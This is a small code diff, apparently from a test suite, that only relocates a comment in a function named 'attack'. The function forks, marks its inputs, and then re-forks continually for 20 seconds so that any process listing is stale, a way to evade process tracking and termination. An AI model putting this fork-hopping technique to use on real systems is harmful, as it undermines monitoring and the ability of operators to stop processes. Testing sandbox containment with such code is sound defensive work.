@@ -4,7 +4,8 @@ def attack(inputs):
     if os.fork() == 0:
         mark(inputs)
         until = time.monotonic() + 20
-        while time.monotonic() < until:  # always a new process, so that a list of them is old when it is made
+        # always a new process, so that each list of them is out of date when it is made
+        while time.monotonic() < until:
             try:
                 if os.fork():
                     os._exit(0)
